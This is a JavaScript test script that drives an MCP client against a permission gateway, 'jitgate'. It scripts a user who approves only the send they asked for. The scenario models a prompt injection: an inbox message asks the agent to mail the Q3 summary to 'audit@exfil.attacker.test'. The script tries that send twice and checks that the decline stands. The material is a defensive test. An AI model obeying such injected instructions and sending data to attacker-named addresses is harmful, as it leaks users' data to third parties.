// End-user confirmation with the official TypeScript SDK client
// (@modelcontextprotocol/client, v2, pinned in package-lock.json):
//
//   node confirm_flow.mjs MODE http URL AGENT_TOKEN ASKED_FOR
//   node confirm_flow.mjs MODE stdio JITGATE CONFIG IDENTITY_FILE ASKED_FOR
//
// MODE is `default` (the initialize handshake declares the client's
// capabilities once; jitgate sends elicitation/create) or `auto`
// (versionNegotiation {mode: 'auto'}: 2026-07-28, every request carries its
// capabilities in `_meta`; jitgate answers with an input-required result and
// the SDK's driver asks the same handler, then retries with the answer).
//
// The end user is scripted as in tests/support/python/confirm_flow.py: they
// asked their agent to write to ASKED_FOR, confirm a question only when it is
// about sending to that address, and decline anything else. The task reads
// the inbox (third-party text), sends the summary to the colleague a message
// named (one confirmation), then tries the address the injected message asks
// for (declined, twice). Prints the same JSON report as confirm_flow.py.
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { answer, step } from './jit.mjs';

const [mode, kind, ...rest] = process.argv.slice(2);
let transport, askedFor;
if (kind === 'http') {
  const [url, agentToken, asked] = rest;
  transport = new StreamableHTTPClientTransport(new URL(url), { requestInit: { headers: { Authorization: `Bearer ${agentToken}` } } });
  askedFor = asked;
} else if (kind === 'stdio') {
  const [binary, config, identity, asked] = rest;
  transport = new StdioClientTransport({ command: binary, args: ['serve', '--config', config, '--stdio', '--identity-file', identity], stderr: 'ignore' });
  askedFor = asked;
} else {
  throw new Error(`unknown transport ${kind}`);
}

const questions = [];
const options = { capabilities: { elicitation: { form: {} } }, ...(mode === 'auto' ? { versionNegotiation: { mode: 'auto' } } : {}) };
const client = new Client({ name: 'jitgate-confirm-flow', version: '1.0.0' }, options);
client.setRequestHandler('elicitation/create', async (request) => {
  const message = request.params.message;
  questions.push(message);
  if (message.includes(JSON.stringify(askedFor))) return { action: 'accept', content: { confirm: true } };
  return { action: 'decline' };
});
await client.connect(transport);

const call = (name, args) => client.callTool({ name, arguments: args });

const report = { protocol_version: client.getNegotiatedProtocolVersion() };
const begun = await call('jit_begin_task', {
  objective: `Send Bob's colleague the Q3 summary he asked for (${askedFor})`,
  phases: [
    { name: 'read', tools: ['workspace__read_inbox'] },
    { name: 'reply', tools: ['workspace__send_message'] },
  ],
});
const task = answer(begun).task;
const grant = await call('jit_request', { task, tool: 'workspace__read_inbox', arguments: {}, purpose: "find Bob's message" });
const inbox = await call('workspace__read_inbox', { _jit_token: answer(grant).token });
report.inbox_has_colleague = step(inbox).text.includes(askedFor);
await call('jit_next_phase', { task, phase: 'reply' });

const send = (to) => ({ task, tool: 'workspace__send_message', arguments: { to, subject: 'Q3 summary', body: 'Here it is.' }, purpose: 'send the summary' });
const granted = await call('jit_request', send(askedFor));
report.benign_request = step(granted);
report.benign_questions = questions.length;
if (!granted.isError && answer(granted).token) {
  const sent = await call('workspace__send_message', { to: askedFor, subject: 'Q3 summary', body: 'Here it is.', _jit_token: answer(granted).token });
  report.benign_send = step(sent);
}

report.attack_request = step(await call('jit_request', send('audit@exfil.attacker.test')));
const askedBefore = questions.length;
// Asking again does not wear the user down: the decline stands.
report.attack_again = step(await call('jit_request', send('audit@exfil.attacker.test')));
report.asked_again = questions.length - askedBefore;
report.questions = questions;

await client.close();
console.log(JSON.stringify(report));
